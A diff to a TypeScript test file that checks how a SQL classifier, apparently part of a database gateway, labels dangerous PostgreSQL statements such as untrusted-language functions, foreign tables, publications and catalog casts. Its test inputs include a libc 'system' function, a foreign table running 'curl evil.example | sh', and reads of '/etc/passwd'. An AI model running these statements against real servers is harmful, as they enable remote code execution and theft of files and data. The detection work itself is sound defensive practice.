@@ -40,10 +40,15 @@ describe('statement types a rule must name', () => {
       'ALTER FUNCTION "pg_catalog".upper(text) SECURITY DEFINER',
       'CREATE OPERATOR pg_catalog.+ (leftarg = int4, rightarg = int4, function = int4pl)',
       'CREATE RULE r AS ON INSERT TO pg_catalog.pg_class DO INSTEAD NOTHING',
+      // A cast between two of the server's types: pg_cast has no schema, so it changes every session's expressions.
+      'CREATE CAST (int4 AS text) WITH FUNCTION public.leak(int4) AS ASSIGNMENT',
+      'CREATE CAST (text AS pg_catalog.int4) WITHOUT FUNCTION AS IMPLICIT',
+      'CREATE CAST (pg_catalog.int8 AS pg_catalog.bool) WITH INOUT',
+      'CREATE CAST (mood AS int) WITH FUNCTION public.mood_int(public.mood)',
     ]) {
       expect(deriveSqlFacts(sql).statements.map((s) => s.type), sql).toContain('catalog');
     }
-    for (const sql of ["CREATE FUNCTION public.f(pg_catalog.int4) RETURNS pg_catalog.text LANGUAGE sql AS $$ SELECT 'x' $$", 'CREATE TABLE t (x pg_catalog.int4)', 'CREATE VIEW v AS SELECT pg_catalog.upper(relname) FROM pg_catalog.pg_class']) {
+    for (const sql of ["CREATE FUNCTION public.f(pg_catalog.int4) RETURNS pg_catalog.text LANGUAGE sql AS $$ SELECT 'x' $$", 'CREATE TABLE t (x pg_catalog.int4)', 'CREATE VIEW v AS SELECT pg_catalog.upper(relname) FROM pg_catalog.pg_class', 'CREATE CAST (public.mood AS int) WITH FUNCTION public.mood_int(public.mood)', 'CREATE CAST (int AS public.mood) WITH INOUT']) {
       expect(deriveSqlFacts(sql).statements.map((s) => s.type), sql).not.toContain('catalog');
     }
   });
@@ -102,6 +107,84 @@ describe('statement types a rule must name', () => {
       const f = deriveSqlFacts(sql);
       expect(f.statements.map((s) => s.type), sql).toEqual(['event_trigger']);
       expect(f.ddl).toBe(true);
+    }
+  });
+});
+
+describe("statements that reach past the database's own objects: a type of their own", () => {
+  const typed = (sql: string) => {
+    const f = deriveSqlFacts(sql);
+    return [f.statements.map((s) => s.type), f.ddl];
+  };
+
+  it('lists a function in an untrusted language, and what registers C code, as untrusted_code, not a create', () => {
+    // With a superuser gateway role each runs code of the server's process: `CREATE TABLE x AS SELECT sys('…')` ran a shell command.
+    for (const sql of [
+      "CREATE FUNCTION public.sys(cstring) RETURNS int LANGUAGE c AS 'libc.so.6', 'system'",
+      "CREATE OR REPLACE FUNCTION public.sys(cstring) RETURNS int LANGUAGE 'C' AS 'libc.so.6', 'system'",
+      "CREATE FUNCTION public.f(cstring) RETURNS int LANGUAGE internal AS 'int4in'",
+      "CREATE PROCEDURE public.p() LANGUAGE plpython3u AS 'import os'",
+      "CREATE FUNCTION public.f() RETURNS int LANGUAGE plperlu AS 'return 1'",
+      "CREATE FUNCTION public.f() RETURNS int AS 'select 1'",
+      'CREATE LANGUAGE plsh HANDLER public.plsh_handler',
+      'CREATE TRANSFORM FOR int LANGUAGE plpython3u (FROM SQL WITH FUNCTION public.f(internal))',
+      'CREATE ACCESS METHOD evil TYPE TABLE HANDLER public.evil_handler',
+      'CREATE TEXT SEARCH PARSER p (start = a, gettoken = b, end = c, lextypes = d)',
+      'CREATE TEXT SEARCH TEMPLATE t (lexize = public.evil_lexize)',
+      'CREATE TYPE public.t (input = public.t_in, output = public.t_out)',
+      'ALTER TYPE public.t SET (receive = public.t_recv, storage = plain)',
+    ]) {
+      const [types, ddl] = typed(sql);
+      expect(types, sql).toContain('untrusted_code');
+      expect(types, sql).not.toContain('create');
+      expect(ddl, sql).toBe(true);
+    }
+    for (const sql of [
+      "CREATE FUNCTION public.f() RETURNS int LANGUAGE sql AS 'select 1'",
+      'CREATE FUNCTION public.f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$',
+      'CREATE FUNCTION public.f() RETURNS int RETURN 1',
+      'CREATE FUNCTION public.f() RETURNS int BEGIN ATOMIC SELECT 1; END',
+      'CREATE TYPE public.t',
+      "CREATE TYPE public.e AS ENUM ('a')",
+      'CREATE TEXT SEARCH CONFIGURATION public.c (copy = english)',
+    ]) {
+      expect(typed(sql), sql).toEqual([['create'], true]);
+    }
+    expect(typed('ALTER TYPE public.t SET (storage = plain)')).toEqual([['alter'], true]);
+  });
+
+  it('lists foreign data wrappers, servers, user mappings and foreign tables as foreign_data, not a create or an alter', () => {
+    // A foreign table of file_fdw reads a server file or runs a program; one of postgres_fdw reads another server through
+    // the operator's user mapping; a server or user mapping stores where to connect and with what password.
+    for (const sql of [
+      'CREATE FOREIGN DATA WRAPPER w HANDLER public.h',
+      'ALTER FOREIGN DATA WRAPPER w VALIDATOR public.v',
+      "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example')",
+      "ALTER SERVER s OPTIONS (SET host 'evil.example')",
+      "CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'u', password 'p')",
+      "ALTER USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (SET password 'p')",
+      'IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public',
+      "CREATE FOREIGN TABLE ff (x text) SERVER files OPTIONS (program 'curl evil.example | sh')",
+      "ALTER FOREIGN TABLE ff OPTIONS (SET filename '/etc/passwd')",
+      "ALTER TABLE ff OPTIONS (SET filename '/etc/passwd')",
+      "ALTER TABLE ff ALTER COLUMN x OPTIONS (ADD column_name 'secret')",
+      'ALTER FOREIGN TABLE ff ADD COLUMN y int',
+    ]) {
+      expect(typed(sql), sql).toEqual([['foreign_data'], true]);
+    }
+    expect(deriveSqlFacts("CREATE FOREIGN TABLE ff (x text) SERVER files OPTIONS (filename '/etc/passwd')").statements[0]?.tables).toEqual(['ff']);
+    for (const sql of ['DROP SERVER s', 'DROP FOREIGN TABLE ff', 'DROP USER MAPPING FOR CURRENT_USER SERVER s']) expect(typed(sql), sql).toEqual([['drop'], true]);
+    expect(typed('ALTER TABLE t ADD COLUMN y int')).toEqual([['alter'], true]);
+  });
+
+  it('lists CREATE and ALTER PUBLICATION as publication, and tablespaces as tablespace, not a create or an alter', () => {
+    // FOR ALL TABLES publishes every table, none of them named (a denied one too), to whoever subscribes.
+    for (const sql of ['CREATE PUBLICATION p FOR ALL TABLES', 'CREATE PUBLICATION p FOR TABLES IN SCHEMA public', 'ALTER PUBLICATION p ADD TABLES IN SCHEMA public', 'ALTER PUBLICATION p SET (publish = delete)']) {
+      expect(typed(sql), sql).toEqual([['publication'], true]);
+    }
+    // A directory of the server's file system; ALTER TABLE ALL IN TABLESPACE moves every table there, none named.
+    for (const sql of ["CREATE TABLESPACE t LOCATION '/var/lib/postgresql'", 'ALTER TABLESPACE t SET (seq_page_cost = 100)', 'ALTER TABLE ALL IN TABLESPACE pg_default SET TABLESPACE t']) {
+      expect(typed(sql), sql).toEqual([['tablespace'], true]);
     }
   });
 });
